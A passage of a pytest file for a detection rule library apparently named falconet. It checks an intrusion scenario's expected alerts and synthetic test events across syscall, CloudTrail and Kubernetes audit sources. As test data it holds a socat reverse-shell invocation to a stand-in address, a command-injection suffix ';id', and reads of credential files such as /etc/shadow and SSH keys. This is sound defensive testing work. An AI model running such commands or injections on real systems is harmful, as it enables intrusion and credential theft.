"""falconet's own rule library (rules/library) and the bundled intrusion scenario.

The scenario (falconet/scenarios/intrusion, story in its README.md) must give exactly the
detections listed below, with no input or evaluation errors; its background events must
give none; every library rule must fire in the scenario or on a dedicated event here; and
the library must load on its own without warnings and together with Falco's public rules.
"""

from __future__ import annotations

import copy
import json
import re
import subprocess
import sys
from collections.abc import Callable
from pathlib import Path
from typing import Any

import orjson
import pytest
import yaml

from falconet.detection import Detection
from falconet.event import Event
from falconet.inputs import RecordDecoder, read_events
from falconet.rules.engine import Engine, EngineConfig
from falconet.run import RunStats, run_files
from tests.helpers import syscall

ROOT = Path(__file__).resolve().parent.parent
LIBRARY = ROOT / "rules" / "library"
LIBRARY_FILES = sorted(LIBRARY.glob("*.yaml"))
SCENARIO = ROOT / "falconet" / "scenarios" / "intrusion"
SYSCALL_FILE = SCENARIO / "syscall.jsonl"
CLOUDTRAIL_FILE = SCENARIO / "cloudtrail.json"
K8S_FILE = SCENARIO / "k8s_audit.jsonl"
SCENARIO_FILES = [SYSCALL_FILE, CLOUDTRAIL_FILE, K8S_FILE]
FIXTURES = ROOT / "tests" / "fixtures"

NODE = "ip-10-0-3-27.eu-west-1.compute.internal"


def sc(ts: int, pid: int) -> str:
    """The id of a scenario syscall event (host-ts-pid, docs/events.md)."""
    return f"{NODE}-{ts}-{pid}"


# ------------------------------------------------------------------------------------------
# The expected detections, (rule, event id), per scenario file (see the README's steps)
# ------------------------------------------------------------------------------------------
EXPECTED_SYSCALL = {
    # 1. command injection: sh -c spawned by node
    ("Shell Spawned by Application Runtime in Container", sc(1718183702118000000, 32011)),
    # 2. reverse shell
    ("Shell Spawned by Application Runtime in Container", sc(1718183731402000000, 32040)),
    ("Outbound Connection on Suspicious Port", sc(1718183731557000000, 32042)),
    ("Outbound Connection to Public Address from Container", sc(1718183731557000000, 32042)),
    ("Network Socket Duplicated onto Standard Stream", sc(1718183731616000000, 32042)),
    ("Network Socket Duplicated onto Standard Stream", sc(1718183731616009000, 32042)),
    ("Network Socket Duplicated onto Standard Stream", sc(1718183731616015000, 32042)),
    ("Shell Started with Network Socket as Standard Input", sc(1718183731617000000, 32042)),
    ("Interactive Shell Started in Container", sc(1718183731617000000, 32042)),
    # 3. TTY upgrade
    ("Interactive Shell Started in Container", sc(1718183738666000000, 32046)),
    # 4. credential theft
    ("Credential File Read by Unexpected Process", sc(1718183755071000000, 32018)),
    ("Kubernetes Service Account Token Read in Container", sc(1718183768921000000, 32024)),
    ("Credential File Read by Unexpected Process", sc(1718183780661000000, 32031)),
    # 5. instance metadata
    ("Cloud Metadata Service Contacted from Container", sc(1718183801254000000, 32033)),
    ("Cloud Metadata Service Contacted from Container", sc(1718183807814000000, 32034)),
    # 6. apt-get
    ("Package Manager Launched in Container", sc(1718183822020000000, 32038)),
    ("Outbound Connection to Public Address from Container", sc(1718183822450000000, 32039)),
    ("Package Manager Launched in Container", sc(1718183835700000000, 32041)),
    ("Outbound Connection to Public Address from Container", sc(1718183836150000000, 32045)),
    # 7. tar + nc exfiltration
    ("Credential File Read by Unexpected Process", sc(1718183853080000000, 32053)),
    ("Network Tool Launched in Container", sc(1718183856480000000, 32056)),
    ("Binary Not in Image Executed in Container", sc(1718183856480000000, 32056)),
    ("Outbound Connection on Suspicious Port", sc(1718183856490000000, 32056)),
    ("Outbound Connection to Public Address from Container", sc(1718183856490000000, 32056)),
    # 8. implant and cron
    ("Outbound Connection to Public Address from Container", sc(1718183875130000000, 32059)),
    ("Write Below System Directory in Container", sc(1718183875310000000, 32059)),
    ("Write Below System Directory in Container", sc(1718183882040000000, 32046)),
    ("Binary Not in Image Executed in Container", sc(1718183885500000000, 32064)),
    ("Outbound Connection to Public Address from Container", sc(1718183885610000000, 32064)),
    # 9. kubectl download and runs
    ("Outbound Connection to Public Address from Container", sc(1718183894780000000, 32066)),
    ("Binary Not in Image Executed in Container", sc(1718183904360000000, 32073)),
    ("Binary Not in Image Executed in Container", sc(1718183924550000000, 32076)),
    ("Binary Not in Image Executed in Container", sc(1718183942710000000, 32077)),
    # 10. node-debug: exec'd shell, nsenter, host shell, node's /etc/shadow
    ("Interactive Shell Started in Container", sc(1718183943250000000, 33478)),
    ("Host Namespaces Entered from Container", sc(1718183950080000000, 33490)),
    ("Interactive Shell Started in Container", sc(1718183950090000000, 33491)),
    ("Credential File Read by Unexpected Process", sc(1718183961560000000, 33512)),
    # 11. kubectl get secrets
    ("Binary Not in Image Executed in Container", sc(1718184015120000000, 32081)),
    ("Binary Not in Image Executed in Container", sc(1718184022400000000, 32082)),
}

EXPECTED_CLOUDTRAIL = {
    ("IAM Access Key Created for Another User", "e3f377f0-3cdc-45e0-8d2b-576a8d25edc6"),
    ("AWS Trail Logging Stopped or Trail Deleted", "c5434d06-ec21-4045-96ed-e14b3632821c"),
    ("Security Group Ingress Opened to the Internet", "7fc207b6-4efc-4052-87df-08dc4c023520"),
    ("S3 Bucket Policy or ACL Grants Public Access", "965c60c7-0a48-4ead-bd75-5060aff96208"),
}

_POD = "eacc056e-3ed9-44ea-80a7-cbbb751dd24b:ResponseComplete"
EXPECTED_K8S = {
    ("Privileged Container Requested in Pod", _POD),
    ("Pod Created with Host Namespace Access", _POD),
    ("Pod Mounts Sensitive Host Path", _POD),
    ("Pod Created in kube-system by Unexpected Principal", _POD),
    ("Exec or Attach into Pod", "bbd1fb4f-5c7f-481c-80db-aa2c55fda303:ResponseStarted"),
    (
        "Secret Read by Unexpected Principal",
        "34136478-3691-4e4c-a255-07bfba3ee893:ResponseComplete",
    ),
    (
        "Secret Read by Unexpected Principal",
        "506a337a-3e85-43bb-832b-23eb4c8dc410:ResponseComplete",
    ),
    ("Binding to cluster-admin Created", "2af3c3b0-1dff-461c-acc5-162059b19710:ResponseComplete"),
}

EXPECTED = {
    SYSCALL_FILE: EXPECTED_SYSCALL,
    CLOUDTRAIL_FILE: EXPECTED_CLOUDTRAIL,
    K8S_FILE: EXPECTED_K8S,
}
EXPECTED_EVENTS = {SYSCALL_FILE: 321, CLOUDTRAIL_FILE: 29, K8S_FILE: 38}
SOURCES = {SYSCALL_FILE: "syscall", CLOUDTRAIL_FILE: "aws_cloudtrail", K8S_FILE: "k8s_audit"}


# ------------------------------------------------------------------------------------------
# helpers
# ------------------------------------------------------------------------------------------
def library_engine(matching: str = "all", **cfg: Any) -> Engine:
    e = Engine(EngineConfig(rule_matching=matching, **cfg))
    res = e.load([str(LIBRARY)])
    assert res.ok, "\n".join(m.format() for m in res.messages)
    return e


@pytest.fixture(scope="module")
def lib() -> Engine:
    return library_engine()


def run(engine: Engine, files: list[Path]) -> tuple[list[Detection], RunStats, list[str]]:
    found: list[Detection] = []
    problems: list[str] = []
    stats = run_files(
        engine,
        [str(f) for f in files],
        found.append,
        problems.append,
        RecordDecoder(host="test-collector"),
    )
    return found, stats, problems


def pairs(found: list[Detection]) -> list[tuple[str, str]]:
    return [(d.rule, d.event_id) for d in found]


def events_of(path: Path) -> list[Event]:
    problems: list[Any] = []
    evs = list(read_events(str(path), RecordDecoder(host="test-collector"), problems.append))
    assert not problems, problems
    return evs


def fired(engine: Engine, ev: Event) -> set[str]:
    return {d.rule for d in engine.process(ev)}


def library_rules() -> dict[str, str]:
    """Rule name → source, read from the YAML files."""
    out: dict[str, str] = {}
    for f in LIBRARY_FILES:
        for item in yaml.safe_load(f.read_text()):
            if "rule" in item:
                out[item["rule"]] = item.get("source", "syscall")
    return out


# ------------------------------------------------------------------------------------------
# the library on its own
# ------------------------------------------------------------------------------------------
def test_library_loads_without_errors_or_warnings() -> None:
    res = Engine().load([str(LIBRARY)])
    assert res.ok
    assert [m.format() for m in res.messages] == []
    assert {Path(f.path).name for f in res.files} == {
        "falconet_syscall_rules.yaml",
        "falconet_cloudtrail_rules.yaml",
        "falconet_k8s_audit_rules.yaml",
    }


def test_cli_rules_validate_is_clean() -> None:
    out = subprocess.run(
        [sys.executable, "-m", "falconet.cli", "rules", "validate", str(LIBRARY)],
        capture_output=True,
        text=True,
        cwd=ROOT,
        check=False,
    )
    assert out.returncode == 0, out.stdout + out.stderr
    assert out.stdout.strip().endswith("OK: 3 files, 0 errors, 0 warnings")


@pytest.mark.parametrize("path", LIBRARY_FILES, ids=lambda p: p.name)
def test_library_file_structure(path: Path) -> None:
    items = yaml.safe_load(path.read_text())
    assert "required_engine_version" in items[0]
    assert "required_plugin_versions" in items[1]
    plugins = {p["name"] for p in items[1]["required_plugin_versions"]}
    source = {
        "falconet_syscall_rules.yaml": "syscall",
        "falconet_cloudtrail_rules.yaml": "aws_cloudtrail",
        "falconet_k8s_audit_rules.yaml": "k8s_audit",
    }[path.name]
    assert (
        plugins
        == {
            "syscall": {"container"},
            "aws_cloudtrail": {"cloudtrail", "json"},
            "k8s_audit": {"k8saudit", "json"},
        }[source]
    )
    for item in items[2:]:
        if "list" in item or "macro" in item:
            # every list and macro is ours: loading the library never redefines Falco's
            assert (item.get("list") or item.get("macro")).startswith("fnet_"), item
        else:
            assert set(item) >= {"rule", "desc", "condition", "output", "priority", "tags"}
            assert item.get("source", "syscall") == source, item["rule"]
            tags = item["tags"]
            assert "falconet" in tags, item["rule"]
            assert any(re.fullmatch(r"T\d{4}(\.\d{3})?", t) for t in tags), item["rule"]
            assert any(t.startswith("mitre_") for t in tags), item["rule"]


def test_rule_names_are_unique(lib: Engine) -> None:
    names = [r.name for r in lib.rules]
    assert len(names) == len(set(names)) == len(library_rules()) == 28


# ------------------------------------------------------------------------------------------
# the scenario
# ------------------------------------------------------------------------------------------
@pytest.mark.parametrize("path", SCENARIO_FILES, ids=lambda p: p.name)
def test_scenario_file_gives_exactly_the_expected_detections(lib: Engine, path: Path) -> None:
    found, stats, problems = run(lib, [path])
    assert problems == []
    assert stats.input_errors == 0 and stats.eval_errors == 0
    assert stats.events == EXPECTED_EVENTS[path]
    got = pairs(found)
    assert len(got) == len(set(got)), "a rule fired twice on one event"
    assert set(got) == EXPECTED[path]
    assert {d.source for d in found} == {SOURCES[path]}


def test_whole_scenario_in_one_run(lib: Engine) -> None:
    found, stats, problems = run(lib, SCENARIO_FILES)
    assert problems == [] and stats.input_errors == 0 and stats.eval_errors == 0
    assert stats.events == 388
    assert set(pairs(found)) == EXPECTED_SYSCALL | EXPECTED_CLOUDTRAIL | EXPECTED_K8S
    assert stats.detections == 51 == 39 + 4 + 8
    by_source = {s: sum(1 for d in found if d.source == s) for s in SOURCES.values()}
    assert by_source == {"syscall": 39, "aws_cloudtrail": 4, "k8s_audit": 8}


def test_scenario_with_first_match() -> None:
    """Falco's default: one alert per event (the README quotes this count)."""
    found, stats, _ = run(library_engine("first"), SCENARIO_FILES)
    assert stats.detections == 44
    assert len({d.event_id for d in found}) == 44
    assert set(pairs(found)) < EXPECTED_SYSCALL | EXPECTED_CLOUDTRAIL | EXPECTED_K8S


@pytest.mark.parametrize("path", SCENARIO_FILES, ids=lambda p: p.name)
def test_benign_events_produce_nothing(lib: Engine, path: Path) -> None:
    attack_ids = {eid for _, eid in EXPECTED[path]}
    evs = events_of(path)
    benign = [ev for ev in evs if ev.id not in attack_ids]
    assert len(benign) == len(evs) - len(attack_ids)
    assert len(benign) / len(evs) > 0.8  # most of the scenario is ordinary activity
    noisy = {ev.id: fired(lib, ev) for ev in benign}
    assert {k: v for k, v in noisy.items() if v} == {}


def test_scenario_is_one_consistent_window() -> None:
    lo, hi = 1718183640 * 10**9, 1718184240 * 10**9  # 09:14:00 - 09:24:00 UTC
    for path in SCENARIO_FILES:
        for ev in events_of(path):
            assert lo <= ev.ts < hi, (path.name, ev.id)
    sys_events = [json.loads(line) for line in SYSCALL_FILE.read_text().splitlines()]
    assert [e["num"] for e in sys_events] == list(range(1, len(sys_events) + 1))
    assert [e["ts"] for e in sys_events] == sorted(e["ts"] for e in sys_events)
    assert {e["host"] for e in sys_events} == {NODE}
    assert len({e["id"] for e in sys_events}) == len(sys_events)
    web = [e for e in sys_events if e["event"]["container"]["id"] == "3f2a9c81d7e4"]
    assert {
        e["enrichment"]["k8s"]["ns"]["name"] + "/" + e["enrichment"]["k8s"]["pod"]["name"]
        for e in web
    } == {"shop/web-7d9f"}
    assert {e["enrichment"]["container"]["image"]["name"] for e in web} == {
        "registry.example.com/shop/web:1.8"
    }
    uuid_re = re.compile(r"[0-9a-f]{8}-[0-9a-f]{4}-4[0-9a-f]{3}-[89ab][0-9a-f]{3}-[0-9a-f]{12}")
    for line in K8S_FILE.read_text().splitlines():
        a = json.loads(line)
        assert a["apiVersion"] == "audit.k8s.io/v1" and a["kind"] == "Event"
        assert uuid_re.fullmatch(a["auditID"])
        assert re.fullmatch(r"2024-06-12T09:\d\d:\d\d\.\d{6}Z", a["stageTimestamp"])
    for r in json.loads(CLOUDTRAIL_FILE.read_text())["Records"]:
        assert uuid_re.fullmatch(r["eventID"])
        assert r["recipientAccountId"] == "418295730164"


def test_every_library_rule_is_tested(lib: Engine) -> None:
    found, _, _ = run(lib, SCENARIO_FILES)
    in_scenario = {d.rule for d in found}
    dedicated = {rule for case in DEDICATED for rule in case[2]}
    missing = set(library_rules()) - in_scenario - dedicated
    assert missing == set()
    # the three CloudTrail rules outside the story are covered by dedicated events only
    assert set(library_rules()) - in_scenario == {
        "AWS Root Account Used",
        "AWS Console Sign-In Without MFA",
        "AWS Trail Coverage Reduced",
    }


# ------------------------------------------------------------------------------------------
# through the command line
# ------------------------------------------------------------------------------------------
@pytest.mark.parametrize("path", SCENARIO_FILES, ids=lambda p: p.name)
def test_cli_run_per_file(path: Path) -> None:
    out = subprocess.run(
        [
            sys.executable,
            "-m",
            "falconet.cli",
            "run",
            "--rules",
            str(LIBRARY),
            "--input",
            str(path),
            "--rule-matching",
            "all",
        ],
        capture_output=True,
        cwd=ROOT,
        check=False,
    )
    stderr = out.stderr.decode()
    assert out.returncode == 0, stderr
    alerts = [orjson.loads(line) for line in out.stdout.splitlines()]
    assert {(a["rule"], a["event_id"]) for a in alerts} == EXPECTED[path]
    assert len(alerts) == len(EXPECTED[path])
    assert ", 0 input errors, 0 evaluation errors" in stderr
    assert "skipped record" not in stderr and "evaluation error" not in stderr.replace(
        "0 evaluation errors", ""
    )
    for a in alerts:
        assert a["source"] == SOURCES[path] and "falconet" in a["tags"]


def test_cli_demo_offline() -> None:
    out = subprocess.run(
        [sys.executable, "-m", "falconet.cli", "demo", "--offline"],
        capture_output=True,
        text=True,
        cwd=ROOT,
        check=False,
        env={"COLUMNS": "200", "TERM": "dumb", "PATH": "/usr/bin:/bin"},
    )
    assert out.returncode == 0, out.stdout + out.stderr
    assert "falconet demo: 388 events, 51 detections" in out.stdout


# ------------------------------------------------------------------------------------------
# together with Falco's public rules
# ------------------------------------------------------------------------------------------
RULES = "falco/falcosecurity-rules/rules/"
PLUGINS = "falco/falcosecurity-plugins/plugins/"


def test_library_loads_after_falco_stable_rules(corpus: Path) -> None:
    e = Engine(EngineConfig(rule_matching="all"))
    res = e.load([str(corpus / RULES / "falco_rules.yaml"), str(LIBRARY)])
    assert res.ok, "\n".join(m.format() for m in res.errors)
    assert [m.format() for m in res.messages] == []
    assert len(e.rules) == 25 + 28  # no name collides with a stable rule
    # Falco's rules do not change what ours detect in the scenario
    found, stats, _ = run(e, [SYSCALL_FILE])
    assert stats.eval_errors == 0
    ours = {(d.rule, d.event_id) for d in found if "falconet" in d.tags}
    assert ours == EXPECTED_SYSCALL


def test_library_loads_with_all_public_rule_files(corpus: Path) -> None:
    files = [
        RULES + "falco_rules.yaml",
        RULES + "falco-incubating_rules.yaml",
        RULES + "falco-sandbox_rules.yaml",
        PLUGINS + "cloudtrail/rules/aws_cloudtrail_rules.yaml",
        PLUGINS + "k8saudit/rules/k8s_audit_rules.yaml",
    ]
    e = Engine()
    res = e.load([str(corpus / f) for f in files] + [str(LIBRARY)])
    assert res.ok, "\n".join(m.format() for m in res.errors)
    assert len(e.rules) == 25 + 31 + 37 + 22 + 48 + 28


# ------------------------------------------------------------------------------------------
# dedicated events: variants the scenario does not show, and the allowlists
# ------------------------------------------------------------------------------------------
IMAGE = "docker.io/library/debian"


def enrich(repo: str = IMAGE, **container: Any) -> dict[str, Any]:
    return {
        "container": {
            "id": "0a1b2c3d4e5f",
            "name": "app",
            "type": "containerd",
            "image": {"name": f"{repo}:12", "repository": repo, "tag": "12"},
            "privileged": False,
            **container,
        },
        "k8s": {"pod": {"name": "app-0"}, "ns": {"name": "default"}},
    }


def in_container(etype: str, repo: str = IMAGE, **kw: Any) -> Event:
    return syscall(etype, container="0a1b2c3d4e5f", enrichment=enrich(repo), **kw)


def open_read(path: str, proc: str, *, container: bool = True, repo: str = IMAGE) -> Event:
    kw: dict[str, Any] = {
        "args": {"fd": 3, "dirfd": -100, "name": path, "flags": "O_RDONLY", "mode": "0"},
        "res": 3,
        "proc": {"name": proc},
        "fd": {"num": 3, "type": "file", "name": path},
    }
    return in_container("openat", repo, **kw) if container else syscall("openat", **kw)


def execve(
    name: str,
    args: list[str],
    *,
    tty: int = 0,
    parent: str = "bash",
    repo: str = IMAGE,
    **proc: Any,
) -> Event:
    return in_container(
        "execve",
        repo,
        args={"res": 0, "exe": name},
        res=0,
        proc={
            "name": name,
            "exe": name,
            "exepath": f"/usr/bin/{name}",
            "args": args,
            "tty": tty,
            **proc,
        },
        ancestors=[{"pid": 50, "name": parent}, {"pid": 1, "name": "containerd-shim"}],
    )


def connect(
    sip: str, sport: int, *, container: bool = True, proc: str = "curl", repo: str = IMAGE
) -> Event:
    fam = "ipv6" if ":" in sip else "ipv4"
    cip = "fd00::5" if fam == "ipv6" else "10.244.3.9"
    name = f"{cip}:40000->{sip}:{sport}"
    kw: dict[str, Any] = {
        "args": {"res": 0, "tuple": name, "fd": 4, "addr": f"{sip}:{sport}"},
        "res": 0,
        "proc": {"name": proc},
        "fd": {
            "num": 4,
            "type": fam,
            "name": name,
            "l4proto": "tcp",
            "role": "client",
            "cip": cip,
            "cport": 40000,
            "sip": sip,
            "sport": sport,
            "connected": True,
        },
    }
    return in_container("connect", repo, **kw) if container else syscall("connect", **kw)


def fixture(rel: str) -> Event:
    [ev] = events_of(FIXTURES / rel)
    return ev


def fixture_events(rel: str) -> list[Event]:
    return events_of(FIXTURES / rel)


CT_BASE: dict[str, Any] = {
    "eventVersion": "1.09",
    "eventTime": "2024-06-12T10:00:00Z",
    "awsRegion": "eu-west-1",
    "sourceIPAddress": "198.51.100.7",
    "userAgent": "aws-cli/2.15.58",
    "eventType": "AwsApiCall",
    "managementEvent": True,
    "recipientAccountId": "418295730164",
    "eventID": "00000000-0000-4000-8000-000000000001",
    "readOnly": False,
    "eventCategory": "Management",
    "userIdentity": {
        "type": "IAMUser",
        "principalId": "AIDAEXAMPLE",
        "userName": "alice",
        "arn": "arn:aws:iam::418295730164:user/alice",
        "accountId": "418295730164",
        "accessKeyId": "AKIAEXAMPLEALICE0001",
    },
}
ROLE = {
    "type": "AssumedRole",
    "principalId": "AROAEXAMPLE:s",
    "arn": "arn:aws:sts::418295730164:assumed-role/Admin/s",
    "accountId": "418295730164",
    "sessionContext": {"sessionIssuer": {"type": "Role", "userName": "Admin"}},
}
ROOT_ID = {
    "type": "Root",
    "principalId": "418295730164",
    "arn": "arn:aws:iam::418295730164:root",
    "accountId": "418295730164",
}


def ct(source: str, name: str, req: Any = None, resp: Any = None, **over: Any) -> Event:
    r = copy.deepcopy(CT_BASE)
    r.update(eventSource=source, eventName=name, requestParameters=req, responseElements=resp)
    r.update(over)
    return RecordDecoder(host="t").cloudtrail(r, {})


def sg_ingress(cidr_key: str, cidr: str, group: str = "sg-0123456789abcdef0") -> Event:
    return ct(
        "ec2.amazonaws.com",
        "AuthorizeSecurityGroupIngress",
        {
            "groupId": group,
            "ipPermissions": {
                "items": [
                    {
                        "ipProtocol": "tcp",
                        "fromPort": 22,
                        "toPort": 22,
                        "groups": {},
                        "ipRanges": {"items": [{cidr_key: cidr}]} if cidr_key == "cidrIp" else {},
                        "ipv6Ranges": {"items": [{cidr_key: cidr}]}
                        if cidr_key == "cidrIpv6"
                        else {},
                        "prefixListIds": {},
                    }
                ]
            },
        },
    )


def put_acl(acl: dict[str, Any]) -> Event:
    return ct(
        "s3.amazonaws.com",
        "PutBucketAcl",
        {"bucketName": "b", "Host": "b.s3.eu-west-1.amazonaws.com", "acl": [""], **acl},
    )


def console(mfa: str, ident: dict[str, Any] | None = None, result: str = "Success") -> Event:
    over: dict[str, Any] = {
        "eventType": "AwsConsoleSignIn",
        "additionalEventData": {"MFAUsed": mfa, "MobileVersion": "No"},
    }
    if ident:
        over["userIdentity"] = ident
    return ct("signin.amazonaws.com", "ConsoleLogin", None, {"ConsoleLogin": result}, **over)


K8S_BASE: dict[str, Any] = {
    "kind": "Event",
    "apiVersion": "audit.k8s.io/v1",
    "level": "RequestResponse",
    "auditID": "11111111-2222-4333-8444-555555555555",
    "stage": "ResponseComplete",
    "user": {"username": "dev-bob", "groups": ["developers", "system:authenticated"]},
    "sourceIPs": ["10.0.12.34"],
    "userAgent": "kubectl/v1.29.2 (linux/amd64) kubernetes/4b8e819",
    "responseStatus": {"metadata": {}, "code": 201},
    "requestReceivedTimestamp": "2024-06-12T10:00:00.000000Z",
    "stageTimestamp": "2024-06-12T10:00:00.100000Z",
    "annotations": {"authorization.k8s.io/decision": "allow", "authorization.k8s.io/reason": ""},
}


def ka(verb: str, uri: str, ref: dict[str, Any], req: Any = None, **over: Any) -> Event:
    a = copy.deepcopy(K8S_BASE)
    a.update(verb=verb, requestURI=uri, objectRef=ref)
    if req is not None:
        a["requestObject"] = req
    a.update(over)
    return RecordDecoder(host="t").audit(a)


def pod(spec: dict[str, Any], ns: str = "default", **over: Any) -> Event:
    return ka(
        "create",
        f"/api/v1/namespaces/{ns}/pods",
        {"resource": "pods", "namespace": ns, "name": "p", "apiVersion": "v1"},
        {
            "kind": "Pod",
            "apiVersion": "v1",
            "metadata": {"name": "p", "namespace": ns},
            "spec": spec,
        },
        **over,
    )


def container(image: str = "docker.io/library/busybox:1.36", **sc_: Any) -> dict[str, Any]:
    c: dict[str, Any] = {"name": "c", "image": image}
    if sc_:
        c["securityContext"] = sc_
    return c


def binding(resource: str, role: str, ns: str | None = None, user: str = "dev-bob") -> Event:
    ref = {
        "resource": resource,
        "name": "b",
        "apiGroup": "rbac.authorization.k8s.io",
        "apiVersion": "v1",
    }
    if ns:
        ref["namespace"] = ns
    return ka(
        "create",
        f"/apis/rbac.authorization.k8s.io/v1/{resource}",
        ref,
        {
            "kind": "RoleBinding",
            "roleRef": {"kind": "ClusterRole", "name": role},
            "subjects": [{"kind": "User", "name": "eve"}],
        },
        user={"username": user, "groups": ["system:authenticated"]},
    )


def secret_read(user: str, verb: str = "get", code: int = 200) -> Event:
    return ka(
        verb,
        "/api/v1/namespaces/prod/secrets/db",
        {"resource": "secrets", "namespace": "prod", "name": "db", "apiVersion": "v1"},
        level="Metadata",
        user={"username": user, "groups": ["system:authenticated"]},
        responseStatus={"metadata": {}, "code": code},
    )


def exec_like(sub: str, verb: str, stage: str, user: str = "dev-bob") -> Event:
    return ka(
        verb,
        f"/api/v1/namespaces/default/pods/web/{sub}?container=web&stdin=true",
        {
            "resource": "pods",
            "namespace": "default",
            "name": "web",
            "apiVersion": "v1",
            "subresource": sub,
        },
        level="Metadata",
        stage=stage,
        user={"username": user, "groups": ["system:authenticated"]},
        responseStatus={"metadata": {}, "code": 101},
    )


#: (case id, event factory, rules expected to fire — an empty set means nothing fires)
DEDICATED: list[tuple[str, Callable[[], Event | list[Event]], set[str]]] = [
    # --- syscall: the shared fixtures
    (
        "fixture dup2 socket onto stdin",
        lambda: fixture("syscall/dup2_socket_stdin.json"),
        {"Network Socket Duplicated onto Standard Stream"},
    ),
    (
        "fixture bash with tty in container",
        lambda: fixture("syscall/execve_bash_container.json"),
        {"Interactive Shell Started in Container"},
    ),
    (
        "fixture cat /etc/shadow",
        lambda: fixture("syscall/openat_shadow_read.json"),
        {"Credential File Read by Unexpected Process"},
    ),
    (
        "fixture write /etc/ld.so.preload",
        lambda: fixture("syscall/openat_write_etc.json"),
        {"Write Below System Directory in Container"},
    ),
    (
        "fixture dig to 8.8.8.8 (UDP)",
        lambda: fixture("syscall/sendto_udp_unconnected.json"),
        {"Outbound Connection to Public Address from Container"},
    ),
    ("fixture curl to the API server", lambda: fixture("syscall/connect_k8s_api.json"), set()),
    ("fixture failed open", lambda: fixture("syscall/openat_enoent.json"), set()),
    # --- credential files
    (
        "ssh private key read by python",
        lambda: open_read("/root/.ssh/id_ed25519", "python3"),
        {"Credential File Read by Unexpected Process"},
    ),
    ("ssh private key read by ssh", lambda: open_read("/root/.ssh/id_ed25519", "ssh"), set()),
    (
        "host key read by cat on host",
        lambda: open_read("/etc/ssh/ssh_host_ed25519_key", "cat", container=False),
        {"Credential File Read by Unexpected Process"},
    ),
    (
        "host key read by sshd on host",
        lambda: open_read("/etc/ssh/ssh_host_ed25519_key", "sshd", container=False),
        set(),
    ),
    (
        "gcloud ADC read by python",
        lambda: open_read("/home/a/.config/gcloud/application_default_credentials.json", "python3"),
        {"Credential File Read by Unexpected Process"},
    ),
    (
        "gcloud ADC read by gcloud",
        lambda: open_read("/home/a/.config/gcloud/application_default_credentials.json", "gcloud"),
        set(),
    ),
    (
        "aws credentials read by the aws cli",
        lambda: open_read("/root/.aws/credentials", "aws"),
        set(),
    ),
    (
        "shadow read by unix_chkpwd on host",
        lambda: open_read("/etc/shadow", "unix_chkpwd", container=False),
        set(),
    ),
    ("/etc/passwd is not a credential file", lambda: open_read("/etc/passwd", "cat"), set()),
    (
        "IRSA token read by python",
        lambda: open_read("/var/run/secrets/eks.amazonaws.com/serviceaccount/token", "python3"),
        {"Kubernetes Service Account Token Read in Container"},
    ),
    (
        "SA token read by fluent-bit (allowlisted)",
        lambda: open_read(
            "/var/run/secrets/kubernetes.io/serviceaccount/token",
            "fluent-bit",
            repo="cr.fluentbit.io/fluent/fluent-bit",
        ),
        set(),
    ),
    # --- processes
    (
        "bash -i in container",
        lambda: execve("bash", ["-i"]),
        {"Interactive Shell Started in Container"},
    ),
    ("bash -c in container", lambda: execve("bash", ["-c", "ls"]), set()),
    (
        "shell with tty in netshoot (allowlisted)",
        lambda: execve("bash", [], tty=34816, repo="docker.io/nicolaka/netshoot"),
        set(),
    ),
    (
        "python spawns sh in container",
        lambda: execve("sh", ["-c", "id"], parent="python3"),
        {"Shell Spawned by Application Runtime in Container"},
    ),
    (
        "allowlisted invoice command",
        lambda: execve(
            "sh",
            ["-c", "wkhtmltopdf --quiet /tmp/inv-7.html /tmp/inv-7.pdf"],
            parent="node",
            repo="registry.example.com/shop/web",
        ),
        set(),
    ),
    (
        "invoice command with an injected suffix",
        lambda: execve(
            "sh",
            ["-c", "wkhtmltopdf --quiet /tmp/inv-7.html /tmp/inv-7.pdf;id"],
            parent="node",
            repo="registry.example.com/shop/web",
        ),
        {"Shell Spawned by Application Runtime in Container"},
    ),
    (
        "apk add in container",
        lambda: execve("apk", ["add", "socat"]),
        {"Package Manager Launched in Container"},
    ),
    ("dpkg under apt-get", lambda: execve("dpkg", ["--unpack", "x.deb"], parent="apt-get"), set()),
    (
        "socat in container",
        lambda: execve("socat", ["TCP:203.0.113.9:443", "EXEC:/bin/sh"]),
        {"Network Tool Launched in Container"},
    ),
    (
        "binary from /dev/shm",
        lambda: execve("x", [], exepath="/dev/shm/x"),
        {"Binary Not in Image Executed in Container"},
    ),
    (
        "nsenter in the EBS CSI node plugin (allowlisted)",
        lambda: execve(
            "nsenter",
            ["-t", "1", "-m", "--", "mount"],
            repo="602401143452.dkr.ecr.eu-west-1.amazonaws.com/eks/aws-ebs-csi-driver",
        ),
        set(),
    ),
    (
        "shell with a socket as stdout on the host",
        lambda: syscall(
            "execve",
            args={"res": 0},
            res=0,
            proc={
                "name": "sh",
                "fds": {
                    "0": {"type": "pipe", "name": "pipe:[1]"},
                    "1": {"type": "ipv6", "name": "::1:1->::1:2"},
                },
            },
        ),
        {"Shell Started with Network Socket as Standard Input"},
    ),
    # --- network
    (
        "IPv6 public destination",
        lambda: connect("2606:4700:4700::1111", 443),
        {"Outbound Connection to Public Address from Container"},
    ),
    ("IPv6 ULA destination", lambda: connect("fd00:10:96::a", 443), set()),
    ("RFC 1918 destination", lambda: connect("172.20.4.9", 5432), set()),
    (
        "host connects to 4444",
        lambda: connect("198.51.100.77", 4444, container=False),
        {"Outbound Connection on Suspicious Port"},
    ),
    (
        "mining pool port from container",
        lambda: connect("198.51.100.77", 3333),
        {
            "Outbound Connection on Suspicious Port",
            "Outbound Connection to Public Address from Container",
        },
    ),
    (
        "ECS task metadata endpoint",
        lambda: connect("169.254.170.2", 80),
        {"Cloud Metadata Service Contacted from Container"},
    ),
    (
        "allowlisted egress of the web image",
        lambda: connect("54.187.216.72", 443, proc="node", repo="registry.example.com/shop/web"),
        set(),
    ),
    (
        "same image, another program",
        lambda: connect("54.187.216.72", 443, proc="python3", repo="registry.example.com/shop/web"),
        {"Outbound Connection to Public Address from Container"},
    ),
    # --- CloudTrail: the shared sample log file
    (
        "fixture CloudTrail sample",
        lambda: fixture_events(
            "cloudtrail/123456789012_CloudTrail_us-east-1_20240301T1020Z_sample.json"
        ),
        {
            "AWS Console Sign-In Without MFA",
            "AWS Root Account Used",
            "AWS Trail Logging Stopped or Trail Deleted",
            "IAM Access Key Created for Another User",
        },
    ),
    (
        "DeleteTrail",
        lambda: ct("cloudtrail.amazonaws.com", "DeleteTrail", {"name": "t"}),
        {"AWS Trail Logging Stopped or Trail Deleted"},
    ),
    (
        "DeleteTrail denied",
        lambda: ct(
            "cloudtrail.amazonaws.com",
            "DeleteTrail",
            {"name": "t"},
            errorCode="AccessDenied",
            errorMessage="no",
        ),
